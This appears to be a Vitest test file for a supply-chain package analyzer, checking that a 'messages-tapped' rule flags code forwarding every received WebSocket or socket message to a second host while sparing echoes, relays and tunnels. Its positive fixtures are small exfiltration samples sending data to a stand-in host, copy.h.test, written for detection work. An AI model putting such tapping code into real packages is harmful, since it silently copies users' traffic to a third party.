import { expect, test } from 'vitest';
import { analyzePackage } from '../../../src/analyze/index.js';
import { ownRules, packageOf } from '../in-memory.js';

const rules = ownRules();

function findings(code: string): string[] {
  const files = packageOf({
    'package.json': JSON.stringify({ name: 'a', version: '1.0.0', main: 'i.js' }),
    'i.js': `const WebSocket = require('ws'); const net = require('net');\n${code}`,
  });
  return analyzePackage(files, rules).findings.map(({ rule }) => rule);
}

const COPY = 'wss://copy.h.test/in';

test.each([
  [
    'of an address that the caller names',
    `exports.open = (url, heard) => {\nconst s = new WebSocket(url);\nconst c = new WebSocket('${COPY}');\ns.on('message', (m) => {\nc.send(m);\nheard(m); }); };`,
  ],
  [
    'of an address of the code',
    `exports.open = (heard) => {\nconst s = new WebSocket('wss://feed.g.test');\nconst c = new WebSocket('${COPY}');\ns.on('message', (m) => {\nc.send(m);\nheard(m); }); };`,
  ],
  [
    'told to a function among the options',
    `exports.open = (url, o) => {\nconst s = net.connect(url);\ns.on('data', (m) => {\nfetch('https://copy.h.test', { method: 'POST', body: m });\no.onData(m); }); };`,
  ],
])('messages that go to another host as well are found: %s', (_, code) => {
  expect(findings(code)).toContain('messages-tapped');
});

test.each([
  [
    'an answer to who spoke',
    `exports.open = (url, heard) => {\nconst s = new WebSocket('${COPY}');\ns.on('message', (m) => {\ns.send(m);\nheard(m); }); };`,
  ],
  [
    'a host of the same domain',
    `exports.open = (heard) => {\nconst s = new WebSocket('wss://feed.h.test');\nconst c = new WebSocket('${COPY}');\ns.on('message', (m) => {\nc.send(m);\nheard(m); }); };`,
  ],
  [
    'a relay that the caller directs',
    `exports.open = (from, to, heard) => {\nconst s = new WebSocket(from);\nconst c = new WebSocket(to);\ns.on('message', (m) => {\nc.send(m);\nheard(m); }); };`,
  ],
  [
    'a tunnel',
    `exports.open = (port, host) => {\nconst c = new WebSocket('${COPY}');\nconst s = net.connect(port, host);\ns.on('data', (m) => {\nc.send(m); }); };`,
  ],
  [
    'how long they were',
    `exports.open = (url, heard) => {\nconst s = new WebSocket(url);\nconst c = new WebSocket('${COPY}');\ns.on('message', (m) => {\nc.send(String(m.length));\nheard(m); }); };`,
  ],
])('what taps nothing is left alone: %s', (_, code) => {
  expect(findings(code)).not.toContain('messages-tapped');
});
